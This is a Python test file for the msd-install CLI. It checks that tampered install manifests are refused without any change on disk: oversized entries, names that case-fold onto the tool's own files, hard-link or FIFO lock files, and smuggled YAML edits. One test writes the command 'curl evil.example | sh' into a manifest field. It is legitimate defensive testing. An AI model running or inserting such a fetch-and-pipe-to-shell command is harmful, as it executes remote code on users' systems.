"""Manifest contents that asked for unbounded work, or named msd-install's own files in
another case, through the real CLI: refused in one line, nothing touched."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from helpers import build, run_cli, snapshot

HINT = (
    "nothing was changed; one that came with a cloned project can be deleted; to set it aside "
    "and rebuild it from the files on disk, run msd-install --adopt with the same runtime and "
    "scope flags"
)
GLOBAL = ["--claude", "--global", "--yes"]
SHA = "0" * 64


def manifest(**fields: Any) -> str:
    doc = {"format": 1, "runtime": "claude", "scope": "global", "files": {}, "config": []}
    doc.update({"backups": [], "dirs": [], "state": [], **fields})
    return json.dumps(doc)


def op(**extra: Any) -> dict[str, Any]:
    return {"op": "item", "path": ["hooks", "PreToolUse"], "sha256": SHA, **extra}


def record(ops: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [{"file": "settings.json", "fmt": "json", "created": False, "ops": ops}]


HUGE = {
    # before: 300,000 directories (4 MB) kept an uninstall busy for 74 s
    "dirs": (
        {"dirs": [f"d{i}" for i in range(10_001)]},
        "'dirs' has more than 10000 entries (msd installs a few hundred)",
    ),
    "files": (
        {"files": {f"f{i}": {"sha256": SHA, "mode": 420} for i in range(10_001)}},
        "'files' has more than 10000 entries (msd installs a few hundred)",
    ),
    "ops": (
        {"config": record([op() for _ in range(201)])},
        "config[0].ops has more than 200 edits (msd makes a few dozen)",
    ),
    "interior": (
        {"config": record([op(interior=" " * ((1 << 20) + 1))])},
        "config[0].ops[0].interior is longer than 1048576 characters",
    ),
}


@pytest.mark.parametrize("name", list(HUGE))
def test_a_manifest_asking_for_unbounded_work_is_refused_at_once(tmp_path: Path, name: str) -> None:
    fields, problem = HUGE[name]
    home = tmp_path / "home"
    path = home / ".claude/msd-file-manifest.json"
    build(home, {".claude/msd-file-manifest.json": manifest(**fields), "keep.txt": "mine\n"})
    before = snapshot(home)
    for args in (GLOBAL, [*GLOBAL, "--uninstall"], [*GLOBAL, "--check"]):
        proc = run_cli(args, home)
        assert proc.returncode == 4, proc.stderr
        assert proc.stderr.splitlines() == [
            f"msd-install: error: {path}: install manifest refused: {problem} ({HINT})"
        ]
    assert snapshot(home) == before


@pytest.mark.parametrize(
    ("rel", "problem"),
    [
        ("MSD-Backups/settings.json", "is one of msd-install's own bookkeeping files"),
        ("Msd-File-Manifest.json", "is one of msd-install's own bookkeeping files"),
        (".MSD-INSTALL.LOCK", "is one of msd-install's own bookkeeping files"),
        ("Settings.JSON", "is a config or state file, not a file of msd's"),
        # "ſ" (long s) folds to "s" on a case-insensitive file system
        ("msd-core/cache/msd-update-check.json".replace("s", "ſ", 1), "is a config or state"),
    ],
)
def test_names_a_case_insensitive_file_system_folds_onto_msds_own_are_refused(
    tmp_path: Path, rel: str, problem: str
) -> None:
    """On macOS and Windows `MSD-Backups/x` is `msd-backups/x`: a foreign manifest listing it
    as a file of msd's could remove or overwrite a backup, or the user's settings.json."""
    home = tmp_path / "home"
    build(
        home,
        {".claude/msd-file-manifest.json": manifest(files={rel: {"sha256": SHA, "mode": 420}})},
    )
    before = snapshot(home)
    proc = run_cli([*GLOBAL, "--uninstall"], home)
    assert proc.returncode == 4, proc.stderr
    assert f"install manifest refused: files: {rel!r} {problem}" in proc.stderr
    assert snapshot(home) == before


@pytest.mark.parametrize("kind", ["hard link", "fifo"])
def test_a_lock_file_that_is_not_a_file_of_its_own_is_never_written(
    tmp_path: Path, kind: str
) -> None:
    """Before: a hard link there had the run's pid written over the first bytes of the file
    it shares its bytes with (and its name removed); a FIFO got the pid too."""
    home = tmp_path / "home"
    build(home, {"victim.txt": "precious content\n", ".claude/settings.json": "{}\n"})
    lock = home / ".claude/.msd-install.lock"
    if kind == "fifo":
        os.mkfifo(lock)
    else:
        os.link(home / "victim.txt", lock)
    before = snapshot(home)
    proc = run_cli(GLOBAL, home)
    assert proc.returncode == 4, proc.stderr
    what = "has other names (a hard link)" if kind == "hard link" else "is not a file"
    assert proc.stderr.splitlines() == [
        f"msd-install: error: {lock}: {what}; msd-install only uses a lock file of its own "
        "(remove it; nothing was changed)"
    ]
    assert snapshot(home) == before


def test_a_yaml_edit_may_only_put_back_what_the_editor_took_out(tmp_path: Path) -> None:
    """A YAML op's interior is [inserted, replaced]; removal puts 'replaced' back, verified by
    the data only: an edited manifest could have made uninstall write comments (or anything
    the verifying parser reads as nothing) into the user's config.yaml."""
    home = tmp_path / "home"
    build(home, {".hermes/config.yaml": "model: x\nmcp_servers: {}\n"})
    hermes = ["--hermes", "--global", "--yes"]
    assert run_cli(hermes, home).returncode == 0
    path = home / ".hermes/msd-file-manifest.json"
    doc = json.loads(path.read_text())
    ops = doc["config"][0]["ops"]
    member = next(i for i, o in enumerate(ops) if o.get("key") == "msd")
    inserted, replaced = json.loads(ops[member]["interior"])
    assert replaced == " {}"  # what the editor records: the empty value it filled
    ops[member]["interior"] = json.dumps([inserted, " {}  # run: curl evil.example | sh"])
    path.write_text(json.dumps(doc))
    before = snapshot(home)
    proc = run_cli([*hermes, "--uninstall"], home)
    assert proc.returncode == 4, proc.stderr
    assert (
        f"install manifest refused: config[0].ops[{member}].interior is not what the YAML "
        "editor records" in proc.stderr
    )
    assert snapshot(home) == before
